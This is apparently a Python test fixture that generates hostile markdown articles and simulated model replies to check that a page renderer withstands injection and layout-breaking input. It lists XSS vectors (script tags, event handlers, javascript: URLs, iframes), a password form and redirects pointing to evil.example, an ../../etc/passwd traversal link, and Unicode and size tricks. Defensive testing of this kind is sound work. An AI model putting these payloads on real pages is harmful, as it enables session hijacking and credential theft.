"""Sixty things that an article or a model could say to take the page over, or to make it unreadable."""

from __future__ import annotations

EVIL = "https://evil.example"

# What would run, load or cover something if it reached the page as HTML.
PAYLOADS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    "<svg onload='window.hacked = 3'><circle r=1 /></svg>",
    "<svg><script>window.hacked = 4</script></svg>",
    f"<iframe src='{EVIL}/frame'></iframe>",
    "<iframe srcdoc='<script>parent.hacked = 6</script>'></iframe>",
    "<body onload='window.hacked = 7'>",
    "<details open ontoggle='window.hacked = 8'><summary>more</summary></details>",
    "<video><source onerror='window.hacked = 9'></video>",
    "<input autofocus onfocus='window.hacked = 10'>",
    "<a href='javascript:window.hacked = 11'>the harbour board</a>",
    "[the harbour board](javascript:window.hacked=12)",
    "[the harbour board](data:text/html,<script>window.hacked=13</script>)",
    "[the harbour board](JaVaScRiPt&colon;window.hacked=14)",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a lamp</a>",
    f"![a lamp]({EVIL}/lamp.png)",
    f"<img src='{EVIL}/pixel.png'>",
    f"<link rel=stylesheet href='{EVIL}/all.css'>",
    "<style>* { position: fixed !important; inset: 0; background: red }</style>",
    "<div style='position:fixed;inset:0;background:red;z-index:99999'>covered</div>",
    f"<form action='{EVIL}/take'><input name=password><button>Sign in</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href='{EVIL}/'>",
    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
    "<math><mi xlink:href='javascript:window.hacked=25'>x</mi></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=26>"></noscript>',
    '"><script>window.hacked = 27</script>',
    "' onmouseover='window.hacked = 28' x='",
    "</textarea></pre></q></a></article><script>window.hacked = 29</script>",
    "<!--<img src=x onerror=window.hacked=30>--!><img src=x onerror=window.hacked=30>",
    "{{constructor.constructor('window.hacked = 31')()}} ${window.hacked = 31}",
    "<template><img src=x onerror=window.hacked=32></template>",
    "<marquee onstart='window.hacked = 33'>moving</marquee>",
    "<button data-act='forget' data-id='x' data-ask='Who?'>Press here</button>",
    "<a href='#read?source=../../etc/passwd&start=0&end=4'>a note</a>",
    "<p id='question' class='turn' data-state='waiting'>a second question</p>",
)
# What would push the page out of shape, or its own words around.
SHAPES = (
    "\N{RIGHT-TO-LEFT OVERRIDE}desrever si siht \N{RIGHT-TO-LEFT OVERRIDE}",
    "\N{LEFT-TO-RIGHT OVERRIDE}\N{RIGHT-TO-LEFT EMBEDDING}\N{RIGHT-TO-LEFT ISOLATE} never closed",
    "Z\N{COMBINING ACUTE ACCENT}" + "\N{COMBINING ACUTE ACCENT}" * 150 + "algo",
    "\N{ZERO WIDTH SPACE}" * 500 + "nothing",
    "https://" + "long." * 200 + "example/path",
    "\N{FULL BLOCK}" * 1000,
    "# " * 60 + "heading",
    "> " * 60 + "quoted",
    "- " * 60 + "listed",
    "**" * 80 + "bold" + "`" * 81,
    "[1]" * 60,
    "\N{ARABIC LETTER ALEF}" * 1000,
)
TABLE = "\n".join(
    ["| " + " | ".join(f"column {place}" for place in range(40)) + " |", "|" + " --- |" * 40]
    + ["| " + " | ".join(f"cell-{row}-{place}" for place in range(40)) + " |" for row in range(3)]
)
DEEP = "\n".join(f"{'  ' * depth}- level {depth}" for depth in range(30))
WORD = "a" * 1_000_000


def articles() -> dict[str, str]:
    """By file name: sixteen articles with a payload in each thing that is shown of one, and one of odd shape."""
    made = {}
    every = (*PAYLOADS, *SHAPES)
    for number in range(0, len(every), 3):
        three = every[number : number + 3]
        title, publisher, author = (" ".join(each.replace("\\", "").replace('"', "'").split())[:300] for each in three)
        body = "\n\n".join(f"The gulls say {each} at noon." for each in three)
        made[f"hostile-{number:02}.md"] = (
            f'---\ntitle: "{number:02} {title}"\npublisher: "{publisher}"\nauthor: "{author}"\n'
            f'url: "{"javascript:window.hacked=98" if number % 2 else EVIL}"\ndate: 2024-01-02\n---\n\n{body}\n'
        )
    made["hostile-shape.md"] = f"# {'W' * 400}\n\n{TABLE}\n\n{DEEP}\n\nThe gulls of Grimmerholm are grey.\n\n{WORD}\n"
    return made


def replies() -> list[str]:
    """Five replies of a model: every payload between cited sentences, then each shape that could break the page."""
    lines = [f"Rosatom builds the Dabaa plant {payload} [1]." for payload in (*PAYLOADS, *SHAPES)]
    packed = ["\n\n".join(lines[start : start + 16]) for start in range(0, len(lines), 16)]
    return [*packed, f"{TABLE}\n\n{DEEP}\n\nRosatom builds it [1].", f"Rosatom builds it [1]. {WORD}"]
